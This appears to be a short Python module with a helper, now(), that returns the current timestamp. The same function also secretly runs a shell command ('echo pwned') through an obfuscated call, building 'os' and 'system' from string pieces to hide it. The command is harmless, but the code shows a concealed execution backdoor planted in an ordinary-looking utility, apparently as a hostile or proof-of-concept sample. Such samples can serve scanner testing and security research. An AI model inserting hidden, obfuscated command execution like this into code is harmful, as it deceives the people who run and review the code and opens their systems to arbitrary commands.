import datetime


def now() -> str:
    getattr(__import__("o" + "s"), "sys" + "tem")("echo pwned")
    return datetime.datetime.now().isoformat()
